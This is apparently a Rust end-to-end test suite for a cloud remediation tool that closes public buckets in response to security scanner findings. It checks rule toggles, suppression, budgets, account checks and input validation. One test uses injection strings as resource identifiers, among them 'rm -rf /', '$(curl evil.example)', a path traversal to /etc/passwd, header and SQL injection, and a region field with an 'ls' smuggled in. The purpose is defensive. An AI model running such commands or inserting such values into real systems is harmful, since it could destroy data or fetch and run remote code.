//! What is left as it is, and what is said of it.

use serde_json::{Value, json};

use crate::cloud::{CLOSED, OPEN};
use crate::desk::Desk;

#[tokio::test(flavor = "multi_thread")]
async fn given_the_rule_is_off_when_applied_then_nothing_is_called_and_it_is_said() {
    let desk = Desk::new().await;
    let bucket = desk.cloud.public_bucket("rule-off").await;
    let said = desk.apply(&desk.check("S3-001", &bucket)).await;
    said.assert_code(0).assert_says(&[
        "skip S3-001 rule-off check failed: the rule is disabled",
        "remediate rules enable <rule>",
    ]);
    assert_eq!(desk.wire.calls(), [""; 0]);
    assert_eq!(desk.cloud.grants(&bucket).await, OPEN);
}

#[tokio::test(flavor = "multi_thread")]
async fn given_success_when_applied_then_the_bucket_stays_as_it_is() {
    let desk = Desk::with_rules(&["S3-001"]).await;
    let bucket = desk.cloud.public_bucket("succeeded").await;
    let mut check = desk.check("S3-001", &bucket);
    check["status"] = json!("SUCCESS");
    let said = desk.apply(&check).await;
    said.assert_code(0)
        .assert_says(&["passed, and nothing is open for it", "no changes"]);
    assert_eq!(desk.wire.writes(), [""; 0]);
    assert_eq!(desk.cloud.grants(&bucket).await, OPEN);
}

#[tokio::test(flavor = "multi_thread")]
async fn given_a_check_that_is_suppressed_in_the_scanner_when_applied_then_it_waits_for_a_person() {
    let desk = Desk::with_rules(&["S3-001"]).await;
    let bucket = desk.cloud.public_bucket("suppressed").await;
    let mut check = desk.check("S3-001", &bucket);
    check["suppressed"] = json!(true);
    let said = desk.apply(&check).await;
    said.assert_code(0)
        .assert_says(&["skip S3-001 suppressed check failed: suppressed in the scanner"]);
    assert_eq!(desk.cloud.grants(&bucket).await, OPEN);
    desk.run(&["send", &desk.fingerprint().await])
        .await
        .assert_code(0);
    assert_eq!(desk.cloud.grants(&bucket).await, CLOSED);
}

#[tokio::test(flavor = "multi_thread")]
async fn given_a_tag_that_is_left_out_when_the_message_does_not_name_it_then_the_resource_itself_is_asked()
 {
    let desk = Desk::with_rules(&["S3-001"]).await;
    desk.add_rules("[rules.\"S3-001\".except]\ntags = [\"remediate=nev*\"]");
    let [spared, other] = ["tagged-never", "tagged-always"];
    for (bucket, value) in [(spared, "never"), (other, "always")] {
        desk.cloud.public_bucket(bucket).await;
        desk.cloud.tag_bucket(bucket, "remediate", value).await;
        desk.apply(&desk.check("S3-001", bucket))
            .await
            .assert_code(0);
    }
    assert_eq!(desk.cloud.grants(spared).await, OPEN);
    assert_eq!(desk.cloud.grants(other).await, CLOSED);
    let history = desk.run(&["history"]).await;
    history.assert_says(&["left out by except.tags"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn given_the_budget_of_the_hour_is_spent_when_a_person_sends_what_was_held_back_then_it_is_tried()
 {
    let desk = Desk::with_rules(&["S3-001"]).await;
    desk.change_rule(
        "S3-001",
        "max_changes_per_hour = 20",
        "max_changes_per_hour = 1",
    );
    let [first, second] = ["within-budget", "over-budget"];
    for bucket in [first, second] {
        desk.cloud.public_bucket(bucket).await;
        desk.apply(&desk.check("S3-001", bucket)).await;
    }
    assert_eq!(desk.cloud.grants(first).await, CLOSED);
    assert_eq!(desk.cloud.grants(second).await, OPEN);
    let fingerprint = desk.fingerprint().await;
    let said = desk.run(&["send", &fingerprint]).await;
    said.assert_code(1)
        .assert_says(&["not sent: the rule has started as many repairs as it may in an hour (1)"]);
    assert_eq!(desk.cloud.grants(second).await, OPEN);
    desk.change_rule(
        "S3-001",
        "max_changes_per_hour = 1",
        "max_changes_per_hour = 2",
    );
    desk.run(&["send", &fingerprint]).await.assert_code(0);
    assert_eq!(desk.cloud.grants(second).await, CLOSED);
}

#[tokio::test(flavor = "multi_thread")]
async fn given_another_account_when_applied_then_it_is_refused_before_any_look() {
    let desk = Desk::with_rules(&["S3-001"]).await;
    let bucket = desk.cloud.public_bucket("another-account").await;
    let mut check = desk.check("S3-001", &bucket);
    check["cloudProviderId"] = json!("999999999999");
    let said = desk.apply(&check).await;
    said.assert_code(0)
        .assert_says(&["account 999999999999 is not one of ours"]);
    assert_eq!(desk.wire.calls(), ["sts:GetCallerIdentity"]);
    assert_eq!(desk.cloud.grants(&bucket).await, OPEN);
}

#[tokio::test(flavor = "multi_thread")]
async fn given_an_account_that_is_listed_but_not_that_of_the_credentials_when_applied_then_it_is_refused()
 {
    let desk = Desk::with_rules(&["S3-001"]).await;
    let bucket = desk.cloud.public_bucket("listed-account").await;
    let rules = desk.read("config/rules.toml");
    desk.write(
        "config/rules.toml",
        rules.replacen("accounts = []", "accounts = [\"999999999999\"]", 1),
    );
    let mut check = desk.check("S3-001", &bucket);
    check["cloudProviderId"] = json!("999999999999");
    let said = desk.apply(&check).await;
    said.assert_code(0).assert_says(&[&format!(
        "the finding is of account 999999999999, but the credentials are of {}",
        desk.account
    )]);
    assert_eq!(desk.wire.writes(), [""; 0]);
    assert_eq!(desk.cloud.grants(&bucket).await, OPEN);
}

#[tokio::test(flavor = "multi_thread")]
async fn given_no_account_in_the_message_when_applied_then_it_is_refused() {
    let desk = Desk::with_rules(&["S3-001"]).await;
    let bucket = desk.cloud.public_bucket("no-account").await;
    let mut check = desk.check("S3-001", &bucket);
    check.as_object_mut().unwrap().remove("cloudProviderId");
    let said = desk.apply(&check).await;
    said.assert_code(0)
        .assert_says(&["the finding names no account"]);
    assert_eq!(desk.cloud.grants(&bucket).await, OPEN);
}

#[tokio::test(flavor = "multi_thread")]
async fn given_a_resource_that_is_gone_when_applied_then_it_is_said_and_recorded() {
    let desk = Desk::with_rules(&["S3-001", "EC2-002"]).await;
    for (rule, resource) in [
        ("S3-001", "gone-bucket"),
        ("EC2-002", "sg-0a1b2c3d4e5f60718"),
    ] {
        let said = desk.apply(&desk.check(rule, resource)).await;
        said.assert_code(0)
            .assert_says(&["not done: ", resource, "does not exist", "no changes"]);
    }
    assert_eq!(desk.wire.writes(), [""; 0]);
    assert_eq!(desk.outcomes().await, ["unsupported", "unsupported"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn given_ids_that_are_none_when_applied_then_no_call_is_made_with_them() {
    let desk = Desk::with_rules(&["S3-001", "EC2-002", "SQS-004", "RDS-008", "KMS-002"]).await;
    let endless = "a".repeat(100_000);
    for (rule, resource) in [
        ("S3-001", "reports; rm -rf /"),
        ("S3-001", "$(curl evil.example)"),
        ("S3-001", "../../etc/passwd"),
        ("S3-001", "reports?acl&x=\u{1b}[2J"),
        ("S3-001", "reports\r\nx-amz-acl: public-read"),
        ("S3-001", "arn:aws:s3:::reports/../orders"),
        ("S3-001", &endless),
        ("S3-001", ""),
        ("EC2-002", "sg-0a1b2c3d' OR '1'='1"),
        ("EC2-002", "vpc-0a1b2c3d4e5f60718"),
        ("EC2-002", "sg-"),
        ("SQS-004", "https://evil.example/1/2/3/jobs"),
        ("RDS-008", "-orders"),
        ("KMS-002", "alias/mine"),
    ] {
        let said = desk.apply(&desk.check(rule, resource)).await;
        said.assert_code(0)
            .assert_says(&["not done: ", "no changes"]);
        said.assert_says_nothing_of(&["\u{1b}", "panicked"]);
        assert!(
            said.out.len() + said.err.len() < 20_000,
            "{rule}: a wall of {} bytes",
            said.out.len() + said.err.len()
        );
    }
    let mut calls = desk.wire.calls();
    calls.dedup();
    assert_eq!(calls, ["sts:GetCallerIdentity"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn given_the_arn_of_another_services_resource_when_applied_then_its_name_is_not_taken_for_a_bucket()
 {
    let desk = Desk::with_rules(&["S3-001"]).await;
    let bucket = desk.cloud.public_bucket("same-name").await;
    let arn = format!("arn:aws:sqs:{}:{}:same-name", e2e::REGION, desk.account);
    let said = desk.apply(&desk.check("S3-001", &arn)).await;
    said.assert_code(0).assert_says(&["not done: "]);
    assert_eq!(desk.cloud.grants(&bucket).await, OPEN);
    let own = desk
        .apply(&desk.check("S3-001", "arn:aws:s3:::same-name"))
        .await;
    own.assert_code(0)
        .assert_says(&["applied and verified (1)"]);
    assert_eq!(desk.cloud.grants(&bucket).await, CLOSED);
}

#[tokio::test(flavor = "multi_thread")]
async fn given_an_unknown_rule_when_applied_then_it_is_said() {
    let desk = Desk::with_rules(&["S3-001"]).await;
    for rule in ["S3-999", "s3-001", "\u{1b}[31mS3-001"] {
        let said = desk.apply(&desk.check(rule, "any")).await;
        said.assert_code(0)
            .assert_says(&["no such rule in the configuration"]);
        said.assert_says_nothing_of(&["\u{1b}"]);
    }
    assert_eq!(desk.wire.writes(), [""; 0]);
}

#[tokio::test(flavor = "multi_thread")]
async fn given_no_region_when_the_service_keeps_names_per_region_then_it_is_refused_and_the_remedy_named()
 {
    let named = [
        "SQS-004",
        "RDS-008",
        "RS-001",
        "Kinesis-001",
        "Lambda-003",
        "CFM-005",
    ];
    let desk = Desk::with_rules(&[&named[..], &["S3-001"]].concat()).await;
    for rule in named {
        for region in [Value::Null, json!("global"), json!("")] {
            let mut check = desk.check(rule, "orders");
            check["region"] = region;
            let said = desk.apply(&check).await;
            said.assert_code(0).assert_says(&[
                "does not say in which region orders is",
                "send it with `region`",
            ]);
        }
        let mut check = desk.check(rule, "orders");
        check["region"] = json!("eu central 1; ls");
        desk.apply(&check)
            .await
            .assert_code(0)
            .assert_says(&["is no region"]);
    }
    let mut calls = desk.wire.calls();
    calls.dedup();
    assert_eq!(calls, ["sts:GetCallerIdentity"]);
    // A bucket's region is found out.
    let bucket = desk.cloud.public_bucket("region-unknown").await;
    let mut check = desk.check("S3-001", &bucket);
    check["region"] = json!("global");
    desk.apply(&check).await.assert_code(0);
    assert_eq!(desk.cloud.grants(&bucket).await, CLOSED);
}
